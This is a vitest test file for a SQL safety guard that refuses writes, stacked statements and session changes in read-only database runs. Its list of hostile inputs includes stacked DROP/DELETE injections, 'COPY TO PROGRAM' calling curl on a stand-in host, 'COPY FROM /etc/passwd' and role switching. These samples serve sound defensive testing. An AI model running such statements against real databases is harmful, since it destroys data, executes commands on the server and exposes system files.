import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { DbQueryConfig } from "../../../../src/model/action-config/db-query.js";
import { checkSql } from "../../../../src/safety/sql/guard.js";
import { failure } from "../../../fixtures/errors.js";

const READ_ONLY = { allowWrites: false };
const WRITES = { allowWrites: true };
const WRITE_ADVICE = "set allowWrites: true, or allow_writes: true in your plan file";

/** [what, SQL, rule]: refused in a run that may only read. */
const HOSTILE: [string, string, string][] = [
  ["a second statement", "SELECT 1; DROP TABLE x", "one-statement"],
  ["a second statement on its own line", "SELECT 1\n;\nDELETE FROM x", "one-statement"],
  ["a statement hidden after a block comment", "/* */; DROP TABLE x", "read-only"],
  ["a trailing statement after a string holding a quote", "SELECT 'it''s'; DROP TABLE x", "one-statement"],
  ["a dollar-quoted trick", "SELECT $$;$$; DROP TABLE x", "one-statement"],
  ["INSERT", "INSERT INTO t (a) VALUES (1)", "read-only"],
  ["UPDATE", "UPDATE t SET a = 1", "read-only"],
  ["DELETE", "DELETE FROM t", "read-only"],
  ["MERGE", "MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE", "read-only"],
  ["DELETE in a CTE", "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "read-only"],
  ["INSERT in a nested CTE", "WITH a AS (SELECT 1), b AS (INSERT INTO t SELECT * FROM a RETURNING 1) SELECT * FROM b", "read-only"],
  ["UPDATE in a CTE under a UNION", "WITH u AS (UPDATE t SET a = 2 RETURNING a) SELECT a FROM u UNION SELECT 1", "read-only"],
  ["EXPLAIN ANALYZE of a DELETE (it runs it)", "EXPLAIN ANALYZE DELETE FROM t", "read-only"],
  ["CREATE TABLE", "CREATE TABLE x (a int)", "read-only"],
  ["CREATE TABLE AS", "CREATE TABLE x AS SELECT 1", "read-only"],
  ["DROP TABLE", "DROP TABLE t", "read-only"],
  ["ALTER TABLE", "ALTER TABLE t ADD COLUMN b int", "read-only"],
  ["TRUNCATE", "TRUNCATE t", "read-only"],
  ["CREATE FUNCTION", "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", "read-only"],
  ["GRANT", "GRANT ALL ON t TO public", "read-only"],
  ["DO block", "DO $$ BEGIN DELETE FROM t; END $$", "dynamic-sql"],
  ["CALL", "CALL p()", "dynamic-sql"],
  ["NOTIFY", "NOTIFY channel", "read-only"],
  ["LOCK", "LOCK TABLE t", "read-only"],
  ["VACUUM", "VACUUM t", "read-only"],
  ["SELECT INTO", "SELECT * INTO copy_of_t FROM t", "read-only"],
  ["FOR UPDATE", "SELECT * FROM t FOR UPDATE", "read-only"],
  ["FOR SHARE in a subquery", "SELECT * FROM t WHERE a IN (SELECT a FROM u FOR SHARE)", "read-only"],
  ["FOR NO KEY UPDATE on a UNION's branch", "SELECT 1 UNION (SELECT a FROM t FOR NO KEY UPDATE)", "read-only"],
  ["COPY TO PROGRAM", "COPY t TO PROGRAM 'curl http://evil'", "copy"],
  ["COPY FROM a server file", "COPY t FROM '/etc/passwd'", "copy"],
  ["SET TRANSACTION READ WRITE", "SET TRANSACTION READ WRITE", "transaction"],
  ["SET SESSION CHARACTERISTICS", "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", "transaction"],
  ["BEGIN", "BEGIN", "transaction"],
  ["START TRANSACTION", "START TRANSACTION READ WRITE", "transaction"],
  ["COMMIT", "COMMIT", "transaction"],
  ["ROLLBACK", "ROLLBACK", "transaction"],
  ["SAVEPOINT", "SAVEPOINT s", "transaction"],
  ["PREPARE TRANSACTION", "PREPARE TRANSACTION 'x'", "transaction"],
  ["SET", "SET statement_timeout = 0", "session"],
  ["SET LOCAL", "SET LOCAL statement_timeout = 0", "session"],
  ["SET ROLE", "SET ROLE postgres", "session"],
  ["SET SESSION AUTHORIZATION", "SET SESSION AUTHORIZATION postgres", "session"],
  ["RESET", "RESET ALL", "session"],
  ["set_config()", "SELECT set_config('search_path', 'evil', false)", "session"],
  ["schema-qualified, quoted set_config()", "SELECT pg_catalog.\"set_config\"('statement_timeout', '0', true)", "session"],
  ["a session advisory lock", "SELECT pg_advisory_lock(1)", "session"],
  ["LISTEN", "LISTEN channel", "session"],
  ["DISCARD", "DISCARD ALL", "session"],
  ["PREPARE", "PREPARE p AS SELECT 1", "session"],
  ["EXECUTE", "EXECUTE p", "session"],
  ["DECLARE", "DECLARE c CURSOR WITH HOLD FOR SELECT 1", "session"],
  ["LOAD", "LOAD 'evil'", "session"],
  ["a syntax error", "SELEC 1", "syntax"],
  ["an unterminated string", "SELECT * FROM t WHERE a = 'x", "syntax"],
  ["an unterminated comment", "SELECT 1 /* ; DROP TABLE x", "syntax"],
  ["only a comment", "-- SELECT 1", "one-statement"],
  ["only semicolons", ";;", "one-statement"],
];

/** Plain reads a read-only run may run. */
const READS = [
  "SELECT 1",
  "SELECT 1;",
  "SELECT 1 --; DROP TABLE x",
  "SELECT 1 /* ; DROP TABLE x */",
  "SELECT ';DROP TABLE x' AS s",
  "SELECT $1::int + $2 AS n",
  "SELECT name FROM users WHERE id = $1 ORDER BY name LIMIT 10",
  "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 3) SELECT * FROM r",
  "SELECT a FROM t UNION SELECT b FROM u",
  "SELECT count(*) FROM (SELECT * FROM t) s",
  "EXPLAIN SELECT * FROM t",
  "SHOW work_mem",
  "VALUES (1, 'a'), (2, 'b')",
  "TABLE t",
  "SELECT pg_advisory_xact_lock(1)",
  "select 'deleted' as update_status from t where \"delete\" = 1",
];

describe("checkSql in a run that may only read", () => {
  it.each(HOSTILE)("refuses %s", async (_what, sql, rule) => {
    const err = await failure(checkSql(sql, READ_ONLY));
    expect(err).toMatchObject({ code: "SQL_REFUSED", retryable: false, details: { rule, query: sql } });
    expect(err.message).toContain(`rule "${rule}"`);
    expect(err.message).toContain("Nothing was sent to the database");
  });

  it.each(READS)("lets %s run", async (sql) => {
    await expect(checkSql(sql, READ_ONLY)).resolves.toBeUndefined();
  });

  it("says how to allow writes, and names the statement", async () => {
    const err = await failure(checkSql("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", READ_ONLY));
    expect(err.message).toContain("DELETE inside the query can change the database, and this run may only read");
    expect(err.message).toContain(WRITE_ADVICE);
  });

  it("names each statement of a multi-statement query", async () => {
    const err = await failure(checkSql("SELECT 1; DROP TABLE x", READ_ONLY));
    expect(err.message).toContain("it holds 2 statements (SELECT, DROP), and db_query runs exactly one");
    expect(err.details).toMatchObject({ statements: 2 });
  });

  it("gives the parser's message and position for a syntax error", async () => {
    const err = await failure(checkSql("SELECT * FROM t WHERE a = 'x", READ_ONLY));
    expect(err.message).toContain(`unterminated quoted string at or near "'x" (at character 27)`);
    expect(err.details).toMatchObject({ rule: "syntax", position: 27 });
  });

  it("shows a long query cut, in the message and the details", async () => {
    const sql = `DELETE FROM t WHERE a IN (${Array.from({ length: 200 }, (_, i) => i).join(", ")})`;
    const err = await failure(checkSql(sql, READ_ONLY));
    expect(String(err.details.query)).toHaveLength(301);
    expect(err.message).toContain(`${sql.slice(0, 300)}…`);
  });
});

describe("checkSql in a run that may write", () => {
  const writes = [
    "INSERT INTO t (a) VALUES ($1)",
    "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
    "CREATE TABLE x (a int)",
    "SELECT * FROM t FOR UPDATE",
  ];
  it.each(writes)("lets %s run", async (sql) => {
    await expect(checkSql(sql, WRITES)).resolves.toBeUndefined();
  });

  const always = HOSTILE.filter(([, , rule]) => rule !== "read-only");
  it.each(always)("still refuses %s", async (_what, sql, rule) => {
    const err = await failure(checkSql(sql, WRITES));
    expect(err).toMatchObject({ code: "SQL_REFUSED", details: { rule } });
  });

  it("says the engine owns the transaction", async () => {
    const err = await failure(checkSql("COMMIT", WRITES));
    expect(err.message).toContain("COMMIT controls the transaction, and the engine owns it");
  });
});

describe("checkSql, properties", () => {
  const reads = fc.constantFrom("SELECT 1", "SELECT a FROM t", "VALUES (1)", "SHOW work_mem", "TABLE t");
  const second = fc.constantFrom("DROP TABLE t", "SELECT 2", "DELETE FROM t", "COMMIT", "SET role = x");
  const filler = fc.constantFrom("", " ", "\n", " /* x */ ", "\t");

  it("refuses any two statements, however they are spaced or commented, even when writes are allowed", async () => {
    await fc.assert(
      fc.asyncProperty(reads, filler, filler, second, async (first, a, b, next) => {
        const err = await failure(checkSql(`${first}${a};${b}${next}`, WRITES));
        expect(err.details).toMatchObject({ rule: "one-statement" });
      }),
      { numRuns: 60 },
    );
  });
});

describe("DbQueryConfig", () => {
  it("refuses a {{reference}} inside the SQL text, saying to use params", () => {
    const parsed = DbQueryConfig.safeParse({ query: "SELECT * FROM users WHERE id = {{user.id}}" });
    expect(parsed.success).toBe(false);
    const message = parsed.error?.issues[0]?.message ?? "";
    expect(parsed.error?.issues[0]?.path).toEqual(["query"]);
    expect(message).toContain("{{user.id}} is inside the SQL text of query");
    expect(message).toContain("parameters are always bound, never spliced into the SQL");
    expect(message).toContain("Put the value in params and write $1, $2");
  });

  it("takes references in params", () => {
    expect(DbQueryConfig.parse({ query: "SELECT * FROM users WHERE id = $1", params: ["{{user.id}}"] })).toEqual({
      query: "SELECT * FROM users WHERE id = $1",
      params: ["{{user.id}}"],
    });
  });
});
